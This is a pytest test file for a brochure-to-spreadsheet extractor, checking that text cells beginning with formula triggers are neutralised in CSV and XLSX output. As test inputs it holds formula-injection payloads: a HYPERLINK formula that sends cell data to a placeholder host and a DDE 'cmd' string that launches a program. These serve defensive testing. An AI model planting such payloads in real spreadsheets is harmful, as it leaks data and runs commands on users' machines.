"""Safe cells: a brochure whose texts start with formula triggers cannot run anything in Excel."""

from __future__ import annotations

import csv
import dataclasses
import io
import json

import pytest

from extract.cli import main
from extract.stages.write.cells import FORMULA_TRIGGERS, safe_cell
from tests.synth import FIXED_RECORDS, named_designs, render_pdf

HOSTILE_TITLE = '=HYPERLINK("http://example.invalid/?x="&A1,"Ouvrir")'
HOSTILE_ACTIVITY = "+cmd|' /C calc'!A0 organiser des ateliers"
HOSTILE_RESULT = "@SUM(1+1) agents formés"


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_each_trigger_is_neutralised(trigger):
    assert safe_cell(f"{trigger}1+1") == "'" + f"{trigger}1+1".replace("\t", "").replace("\r", "")


def test_plain_text_numbers_and_empty_cells_are_unchanged():
    assert safe_cell("Sfax, 2023 - 2024") == "Sfax, 2023 - 2024"
    assert safe_cell(42) == 42 and safe_cell(None) is None and safe_cell("") == ""
    assert safe_cell("a\x00b\x1bc\x7f") == "abc"


@pytest.fixture(scope="module")
def hostile_out(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    record = dataclasses.replace(
        FIXED_RECORDS["acmals_fr"],
        title=HOSTILE_TITLE,
        activities=(HOSTILE_ACTIVITY, *FIXED_RECORDS["acmals_fr"].activities[1:]),
        results=(HOSTILE_RESULT, *FIXED_RECORDS["acmals_fr"].results[1:]),
    )
    pdf = render_pdf(folder / "hostile.pdf", [(record, named_designs()["brochure_like"])])
    out = folder / "out"
    assert main(["extract", str(pdf), "--out", str(out), "-q", "--no-cache", "--xlsx"]) == 0
    return out


def test_json_keeps_the_exact_text(hostile_out):
    [action] = json.loads((hostile_out / "actions.json").read_text(encoding="utf-8"))["actions"]
    assert action["title"] == HOSTILE_TITLE
    assert action["activities"][0] == HOSTILE_ACTIVITY and action["results"][0] == HOSTILE_RESULT


def test_no_csv_cell_starts_with_a_trigger(hostile_out):
    cells = []
    for path in hostile_out.glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            cells += row
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert "'" + HOSTILE_TITLE in cells and "'" + HOSTILE_ACTIVITY in cells and "'" + HOSTILE_RESULT in cells


def test_xlsx_cells_are_strings_never_formulas(hostile_out):
    import openpyxl

    book = openpyxl.load_workbook(hostile_out / "actions.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    assert not [t for t in texts if t.startswith(FORMULA_TRIGGERS)]
    assert "'" + HOSTILE_TITLE in texts
